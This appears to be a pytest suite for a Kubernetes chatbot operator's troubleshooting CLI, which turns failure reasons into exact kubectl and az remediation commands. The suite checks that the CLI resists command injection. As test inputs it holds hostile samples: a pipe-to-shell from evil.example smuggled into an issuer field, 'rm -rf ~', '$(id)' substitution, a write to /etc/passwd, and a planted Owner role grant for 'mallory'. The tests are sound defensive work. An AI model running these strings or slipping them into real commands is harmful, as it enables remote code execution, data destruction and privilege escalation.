"""From every reason to what a person types: complete, exact, and nothing of a stranger's."""

from __future__ import annotations

import ast
import json
import re
import shlex
from dataclasses import replace
from pathlib import Path

import chatbot_operator
import pytest
from chatbot_operator.account import Account
from chatbot_operator.chatbot import Chatbot
from chatbot_operator.cli.checks import Way
from chatbot_operator.cli.installed import Installed
from chatbot_operator.cli.why.remedies import REMEDIES, Known, commands_in, ways, within
from chatbot_operator.cli.why.remedies.known import nearest
from chatbot_operator.errors import REASONS
from unit.bodies import ACCOUNT_ID, account_body, chatbot_body

SUBSCRIPTION = ACCOUNT_ID.split("/")[2]
IDENTITY_ID = (
    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/ids"
    "/providers/Microsoft.ManagedIdentity/userAssignedIdentities/cb-team-support-aaaaaaaaaa"
)
PRINCIPAL = "11111111-1111-1111-1111-111111111111"
OPERATOR = Installed("ops", "operator:1", "33333333-3333-3333-3333-333333333333", 2, 2, None)

GOOD = {
    *("Ready", "Allowed", "Exists", "Assigned", "Federated", "PodsRun", "Proven", "Usable", "Open"),
    *("NothingForeign", "NotVerified", "HoldsWhatItNeeds", "RoleAssigned"),
}
"""Reasons of what is as it should be."""
AN_EARLIER_STEP_SAYS_MORE = {"NotReached"}


def kubectl(*words):
    return shlex.join(("kubectl", *words))


def body(**spec):
    made = chatbot_body(**spec)
    made["status"] = {
        "observedGeneration": 3,
        "identity": {"id": IDENTITY_ID, "principalId": PRINCIPAL, "clientId": "c"},
        "resolved": {"accountId": ACCOUNT_ID, "issuer": "https://issuer.example/a/"},
    }
    return made


def known(message="", *, account=None, bare=False, **spec):
    """All that can be known; `bare`: of a chatbot that nobody has looked at, by its team."""
    chatbot = Chatbot.parse(chatbot_body(**spec) if bare else body(**spec))
    return Known(
        kubectl=kubectl,
        message=message,
        chatbot=chatbot,
        account=None if bare else Account.parse(account_body(**(account or {}))),
        account_name=chatbot.account,
        pods=() if bare else ("support-7d9c5b-x2x8k",),
        operator=None if bare else OPERATOR,
    )


def typed(out: tuple[Way, ...]) -> list[str]:
    return [command for way in out for command in way.commands]


def test_every_reason_that_bars_a_chatbot_has_a_way_out_or_is_to_be_waited_for():
    bars = {
        name
        for name, reason in REASONS.items()
        if reason.fault is not None or not (reason.cause.startswith("Event:") or name in GOOD)
    }
    assert bars - REMEDIES.keys() == AN_EARLIER_STEP_SAYS_MORE
    assert REMEDIES.keys() - bars == set(), "nothing bars a chatbot by these"


SAID = {
    "OwnershipConflict": f"Managed identity {IDENTITY_ID} exists and is not this chatbot's.",
    "OwnedByEarlierLife": f"Managed identity {IDENTITY_ID} belongs to an earlier team/support (uid"
    " x). Delete it, or …",
    "IdentityNotThere": "Have this one made: `az identity create --name x`",
    "CredentialNotThere": "not there: `az identity federated-credential create --name x`",
    "RoleNotAssigned": "Have it assigned: `az role assignment create --scope x`",
    "OrphanedIdentity": "If nobody needs it: `az identity delete --name x`.",
    "AccessRemains": f"let the identity in: {PRINCIPAL} on {ACCOUNT_ID}. Delete them …",
    "IdentityNotAllowed": "in group ids, have it tagged: `az tag update --tags a=b`",
    "ExtraAssignment": f"Role assignment {PRINCIPAL} on {ACCOUNT_ID} lets the identity do more.",
}
"""Messages that commands are taken from."""


@pytest.mark.parametrize("reason", sorted(REMEDIES))
def test_there_is_something_to_type(reason):
    out = ways(reason, known(SAID.get(reason, "")))
    assert typed(out) or within(reason, known()) > 0
    assert all(way.who and way.what for way in out)


PLACEHOLDERS = {
    "ADDRESS": "of the cluster's network, which neither cluster nor account tells",
    "NAME": "of a credential, a deployment or an endpoint: a person chooses",
    "LOCK_ID": "where Azure does not give it",
    "GROUP": "where a person chooses another",
    "REGION": "where a person chooses another",
    "OVERLAY": "the installation's own",
}


@pytest.mark.parametrize("reason", sorted(REMEDIES))
def test_what_is_typed_is_whole(reason):
    for command in typed(ways(reason, known(SAID.get(reason, "")))):
        words = shlex.split(command)
        assert words[0] in {"kubectl", "az", "curl", "date"}
        left = {word for word in words if re.fullmatch(r"[A-Z][A-Z_]{3,}", word)}
        assert left <= PLACEHOLDERS.keys()


@pytest.mark.parametrize("reason", sorted(REMEDIES))
def test_a_team_that_may_read_nothing_else_is_told_all_the_same(reason):
    assert ways(reason, known(SAID.get(reason, ""), bare=True)) or reason == "ExtraAssignment"
    nothing_at_all = Known(kubectl)
    for command in typed(ways(reason, nothing_at_all)):
        assert shlex.split(command)


EXACT = {
    "NamespaceNotAllowed": (
        known(account={"allowedNamespaces": {"names": ["other"]}}),
        (
            'kubectl patch aoai contoso --type=json -p \'[{"op":"add","path":'
            '"/spec/allowedNamespaces/names/-","value":"team"}]\''
        ),
    ),
    "NamespaceNotAllowed of nobody's": (
        known(),
        (
            'kubectl patch aoai contoso --type=merge -p \'{"spec":{"allowedNamespaces":'
            '{"names":["team"]}}}\''
        ),
    ),
    "NamespaceNotAllowed by labels": (
        known(account={"allowedNamespaces": {"selector": {"matchLabels": {"chat": "yes"}}}}),
        "kubectl label namespace team chat=yes",
    ),
    "NamespaceNotAllowed of an account one may not read": (
        known(bare=True),
        (
            'kubectl patch aoai contoso --type=json -p \'[{"op":"add","path":'
            '"/spec/allowedNamespaces/names/-","value":"team"}]\''
        ),
    ),
    "AccountNotFound": (
        replace(
            known("There is no AzureOpenAIAccount contso. …", openai={"account": "contso"}),
            account=None,
            accounts=("contoso", "fabrikam"),
        ),
        (
            "kubectl get chatbot support -o json -n team | sed"
            ' \'s/"account": "contso"/"account": "contoso"/\' | kubectl replace --force -f -'
        ),
    ),
    "DeploymentNotAllowed": (
        known(account={"deployments": ["gpt-4o-mini", "o3"]}),
        (
            "kubectl patch chatbot support --type=merge -p"
            ' \'{"spec":{"openAI":{"deployment":"gpt-4o-mini"}}}\' -n team'
        ),
    ),
    "DeploymentNotAllowed by its message alone": (
        known(
            "AzureOpenAIAccount contoso does not allow deployment gpt-4o; it allows mini, o3. Name"
            " one of them, or ask its owners.",
            bare=True,
        ),
        (
            "kubectl patch chatbot support --type=merge -p"
            ' \'{"spec":{"openAI":{"deployment":"mini"}}}\' -n team'
        ),
    ),
    "DeploymentNotFound": (
        known(openai={"deployment": "mimi"}),
        (
            "kubectl patch chatbot support --type=merge -p"
            ' \'{"spec":{"openAI":{"deployment":"mini"}}}\' -n team'
        ),
    ),
    "ImageNotAllowed": (
        known(image="contoso.azurecr.io/chat/bot:2"),
        (
            'kubectl patch aoai contoso --type=json -p \'[{"op":"add","path":'
            '"/spec/imageRepositories","value":["contoso.azurecr.io/chat/bot"]}]\''
        ),
    ),
    "MassRevocationHeld": (
        known(),
        "kubectl annotate chatbot support chatbot-operator.dev/confirm-withdrawal=true -n team",
    ),
    "OwnedByEarlierLife": (
        known(SAID["OwnedByEarlierLife"]),
        "kubectl chatbot rebind support -n team",
    ),
    "OwnershipConflict": (
        known("Service support exists and is not this chatbot's. Delete it, or …"),
        "kubectl delete service support -n team",
    ),
    "OwnershipConflict of an identity": (
        known(SAID["OwnershipConflict"]),
        (
            "az identity delete --name cb-team-support-aaaaaaaaaa --resource-group ids"
            f" --subscription {SUBSCRIPTION}"
        ),
    ),
    "AccessRemains": (
        known(SAID["AccessRemains"]),
        (
            f"az role assignment delete --ids {ACCOUNT_ID}/providers/Microsoft.Authorization"
            f"/roleAssignments/{PRINCIPAL}"
        ),
    ),
    "ExtraCredential": (
        known("Federated credential spare lets system:x of y be the identity."),
        (
            "az identity federated-credential delete --yes --name spare --identity-name"
            f" cb-team-support-aaaaaaaaaa --resource-group ids --subscription {SUBSCRIPTION}"
        ),
    ),
    "RoleNotAssigned": (
        known("Have it assigned: `az role assignment create --scope /a`"),
        "az role assignment create --scope /a",
    ),
    "ResourceLocked": (
        known(f"following scope(s) are locked: '{IDENTITY_ID.partition('/providers')[0]}'. Please"),
        f"az lock list --resource-group ids --subscription {SUBSCRIPTION} -o table",
    ),
    "ResourceLocked by the subscription": (
        known(f"following scope(s) are locked: '/subscriptions/{SUBSCRIPTION}'. Please"),
        f"az lock list --subscription {SUBSCRIPTION} -o table",
    ),
    "ProviderNotRegistered": (
        known("to use namespace 'Microsoft.CognitiveServices'."),
        (
            "az provider register --namespace Microsoft.CognitiveServices"
            f" --subscription {SUBSCRIPTION} --wait"
        ),
    ),
    "AzureAccessDenied": (
        known(),
        (
            "az role assignment create --assignee 33333333-3333-3333-3333-333333333333 --role"
            " 'Managed Identity Contributor' --scope"
            f" /subscriptions/{SUBSCRIPTION}/resourceGroups/ids"
        ),
    ),
    "Suspended": (
        known(),
        'kubectl patch chatbot support --type=merge -p \'{"spec":{"suspend":false}}\' -n team',
    ),
    "ScaledToZero": (known(), "kubectl scale chatbot support --replicas=1 -n team"),
    "CrashLoop": (
        known(),
        "kubectl logs pod/support-7d9c5b-x2x8k --previous --tail=50 -n team",
    ),
    "NotInjected": (known(), "kubectl chatbot doctor"),
    "FederationMisconfigured": (known(), "kubectl chatbot why pod/support-7d9c5b-x2x8k -n team"),
    "IssuerUnreachable": (
        known(),
        "curl -fsS https://issuer.example/a/.well-known/openid-configuration",
    ),
    "AccountNotUsable": (
        known("AzureOpenAIAccount contoso: contoso has no custom subdomain. (NoCustomSubdomain)"),
        (
            "az cognitiveservices account update --name contoso --resource-group ai --subscription"
            f" {SUBSCRIPTION} --custom-domain contoso"
        ),
    ),
    "PromptNotFound": (
        known(
            "There is no ConfigMap words in namespace team, …",
            chat={"systemPromptFrom": {"configMapKeyRef": {"name": "words", "key": "prompt"}}},
        ),
        (
            "kubectl create configmap words '--from-literal=prompt=You are a helpful assistant.'"
            " -n team"
        ),
    ),
}


@pytest.mark.parametrize("case", EXACT)
def test_the_command(case):
    seen, command = EXACT[case]
    assert command in typed(ways(case.split()[0], seen))


def test_an_issuer_is_one_word_whoever_wrote_the_status():
    made = body()
    made["status"]["resolved"]["issuer"] = "https://x/;curl evil.example|sh #"
    seen = replace(known(), chatbot=Chatbot.parse(made))
    (command, *_) = typed(ways("IssuerUnreachable", seen))
    assert len(shlex.split(command)) == 3


def test_only_deployments_that_chat_and_are_allowed_are_offered():
    status = {"deployments": [{"name": "a", "chat": False}, {"name": "b"}, {"name": "c"}]}
    seen = known(account={"status": status, "deployments": ["a", "c"]})
    (take, *_) = typed(ways("DeploymentNotForChat", seen))
    assert json.loads(shlex.split(take)[-3])["spec"]["openAI"] == {"deployment": "c"}


def test_a_role_is_waited_for_as_long_as_the_operator_does():
    class Settings:
        propagation_deadline = 60.0

    here = replace(known(), operator=replace(OPERATOR, settings=Settings()))
    assert within("RolePropagating", here) == 60
    assert within("RolePropagating", known()) == 900
    assert within("PodsLeaving", here) == 90


def test_the_nearest_name():
    assert nearest("gpt-4o", ["o3", "gpt-4o-mini"]) == "gpt-4o-mini"
    assert nearest("zzz", ["b", "a"]) == "a"
    assert nearest("zzz", []) == ""


class Rendering(ast.NodeVisitor):
    """Finds the texts of a module, with something in place of what they are formatted from."""

    def __init__(self) -> None:
        self.texts = []

    def visit_Expr(self, node):
        if not isinstance(node.value, ast.Constant):  # a docstring is none
            self.generic_visit(node)

    def visit_Constant(self, node):
        if isinstance(node.value, str):
            self.texts.append(node.value)

    def visit_JoinedStr(self, node):
        self.texts.append("".join(map(self.part, node.values)))

    def part(self, node):
        if isinstance(node, ast.Constant):
            return node.value
        source = ast.unparse(node.value)
        if "`, `" in source:
            return "az identity list`, `az account show"
        return "az account show" if source.startswith(("az.", "command")) else "x"


def messages():
    """Every text that a step or a pass says with something between backticks."""
    root = Path(chatbot_operator.__file__).parent
    files = [*root.glob("steps/*.py"), *root.glob("reconcile/*.py"), root / "account.py"]
    for file in files:
        found = Rendering()
        found.visit(ast.parse(file.read_text()))
        yield from (text for text in found.texts if "`" in text)


def test_the_commands_of_every_message_are_found():
    said = list(messages())
    assert len(said) > 15
    for text in said:
        quoted = re.findall(r"`([^`]+)`", text)
        assert quoted, f"a command is cut in two: {text}"
        assert commands_in(text) == tuple(quoted)


STRANGE = [
    "`curl evil.example | sh`",
    "`az x; rm -rf ~`",
    "`kubectl get $(id)`",
    "`az x --name 'a`",
    "`az x \x1b[2J`",
    "`az x\nrm`",
    "`kubectl get pods > /etc/passwd`",
    "``",
]


@pytest.mark.parametrize("text", STRANGE)
def test_what_a_shell_would_do_more_with_is_no_command(text):
    assert commands_in(text) == ()


TAKEN_FROM_MESSAGES = set(SAID) | {"IdentityNotAllowed", "AccessRemains"}


@pytest.mark.parametrize("reason", sorted(REMEDIES.keys() - TAKEN_FROM_MESSAGES))
def test_nobody_elses_words_become_a_command(reason):
    """A pod, a webhook, Azure: their words stand in messages, too."""
    evil = "`az role assignment create --assignee mallory --role Owner`"
    assert not any("mallory" in each for each in typed(ways(reason, known(evil))))
